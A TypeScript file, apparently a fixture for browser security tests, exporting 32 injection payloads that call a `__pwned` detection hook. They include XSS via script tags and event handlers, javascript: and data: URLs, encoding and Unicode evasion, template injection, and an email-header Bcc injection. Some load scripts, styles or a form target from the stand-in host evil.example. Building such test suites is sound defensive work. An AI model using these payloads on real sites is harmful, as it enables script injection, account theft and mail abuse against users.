/**
 * Texts that take effect where the product treats them as markup, address, style, template or header. Each calls
 * `__pwned`, loads a resource called pwned or creates an element of that name, which the browser detects.
 */

export const PAYLOADS: readonly string[] = [
  '<script>__pwned(1)</script>',
  '"><script src=//evil.example/pwned.js></script>',
  '<img src=/pwned.png onerror=__pwned(3)>',
  `'"><img src=x onerror="__pwned(4)" id=pwned>`,
  '<svg onload=__pwned(5) id=pwned>',
  '<svg><script>__pwned(6)</script><a xlink:href="javascript:__pwned(6)">pwned</a></svg>',
  '<svg><animate onbegin=__pwned(7) attributeName=x dur=1s>',
  '<iframe src="javascript:parent.__pwned(8)"></iframe>',
  '<iframe srcdoc="<script>parent.__pwned(9)</script>"></iframe>',
  '<body onload=__pwned(10)><frameset onload=__pwned(10)>',
  '<input autofocus onfocus=__pwned(11)><select autofocus onfocus=__pwned(11)>',
  '<details open ontoggle=__pwned(12) id=pwned><summary>pwned</summary></details>',
  '<a href="javascript:__pwned(13)" id=pwned>pwned</a>',
  'javascript:__pwned(14)//pwned',
  'JaVaScRiPt&colon;__pwned(15)//&Tab;pwned',
  'data:text/html,<script>__pwned(16)</script>',
  '<meta http-equiv=refresh content="0;url=/pwned"><!-- pwned',
  '<base href=//evil.example/pwned/>pwned',
  '<link rel=stylesheet href=//evil.example/pwned.css>pwned',
  `<style>@import '//evil.example/pwned.css';*{background:url(/pwned.png)}</style>`,
  '<p style="background:url(/pwned.png);position:fixed;inset:0" class=pwned>pwned</p>',
  '<object data=/pwned.svg></object><embed src=/pwned.swf><video src=/pwned.mp4 onerror=__pwned(22)>',
  '<form action=//evil.example/pwned><button formaction=javascript:__pwned(23)>pwned</button></form>',
  '<math><mtext><table><mglyph><style><!--</style><img src=x onerror=__pwned(24)>',
  `pwned{{7*7}}\${7*7}#{7*7}<%=7*7%>{{constructor.constructor('__pwned(25)')()}}`,
  `';__pwned(26);//\\';__pwned(26);//</script></title></textarea><script>__pwned(26)</script>`,
  '&lt;img src=x onerror=__pwned(27)&gt;&#x3C;script&#x3E;__pwned(27)&#60;/script&#62;',
  '\u202epwned\u202c \u2066<img src=x onerror=__pwned(28)>\u2069 \u061c\u200fpwned',
  '\uff1cscript\uff1e__pwned(29)\uff1c/script\uff1e \u2028<b id=pwned>pwned</b>\u2029',
  '<scr<script>ipt>__pwned(30)</scr</script>ipt><<img src=x onerror=__pwned(30)>',
  '<noscript><p title="</noscript><img src=x onerror=__pwned(31)>">pwned',
  'pwned\r\nBcc: pwned@evil.example\r\nContent-Type: text/html\r\n\r\n<script>__pwned(32)</script>',
]
